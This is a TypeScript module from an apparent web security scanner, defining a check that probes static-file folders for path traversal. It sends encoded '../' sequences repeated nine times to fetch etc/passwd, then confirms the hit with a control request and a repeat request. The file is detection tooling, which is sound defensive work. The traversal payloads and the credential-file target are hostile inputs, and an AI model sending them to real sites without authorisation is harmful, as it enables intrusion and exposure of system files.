import type { Exchange } from '@rocca/tools/web/model';
import { type ByStrength, baseOf, mostOf, plainGet } from '../attack/ask.ts';
import { foldersOf, hasFileInFirst } from '../attack/folders.ts';
import { textOf } from '../attack/similar.ts';
import type { AttackTools, Message, SiteCheck, WebSighting } from '../check.ts';
import { filled } from '../evidence.ts';
import { PASSWD, pathTraversal } from './path-traversal.ts';

const MOST_FOLDERS: ByStrength = { low: 2, medium: 5, high: 20, insane: 60 };
/** Steps that an application joins to its folder after the server has let them pass. */
const STEPS = ['..%2f', '../', '%2e%2e/', '..%5c', '%252e%252e%252f'];
const UP = 9;

/**
 * Folders of scripts, styles and pictures: where the application itself joins the path to a folder, steps lead out of it.
 * A few requests for each folder, and not for each file.
 */
export const staticFolders = {
  code: 'static_folders',
  name: { it: 'Cartelle di file statici', en: 'Folders of static files' },
  kind: 'site',
  from: 'low',
  definitions: pathTraversal.definitions,
  async probe(site, tools) {
    const found: WebSighting[] = [];
    const folders = foldersOf(site).slice(0, mostOf(MOST_FOLDERS, tools));
    for (const folder of hasFileInFirst(site) ? [...folders, baseOf(site)] : folders) {
      const sighting = await leavesFolder(folder, tools);
      if (sighting) found.push(sighting);
    }
    return found;
  },
} as const satisfies SiteCheck;

async function leavesFolder(folder: string, tools: AttackTools): Promise<WebSighting | null> {
  const isShown = (exchange: Exchange) => PASSWD.shape.exec(textOf(exchange))?.[0];
  for (const step of STEPS) {
    const ask = (name: string) => tools.request(plainGet(`${folder}${step.repeat(UP)}etc/${name}`));
    const first = await ask('passwd');
    const shown = isShown(first);
    if (shown === undefined) continue;
    const missing = await ask(tools.token());
    const again = await ask('passwd');
    if (isShown(missing) !== undefined || isShown(again) === undefined) continue;
    const message = (exchange: Exchange, role: Message['role'], marks: string[]): Message => ({
      exchange,
      role,
      marks,
    });
    return {
      key: pathTraversal.definitions[0].key,
      place: { url: folder, method: 'GET', parameter: null },
      evidence: filled(
        {
          it: 'La cartella si lascia con passi verso l’alto: {url} mostra “{shown}”; lo stesso per un file che non esiste non mostra nulla.',
          en: 'Steps up lead out of the folder: {url} shows “{shown}”; the same for a file that does not exist shows none.',
        },
        { url: first.request.url, shown },
      ),
      messages: [message(first, 'proof', [shown]), message(missing, 'control', []), message(again, 'repeat', [shown])],
    };
  }
  return null;
}
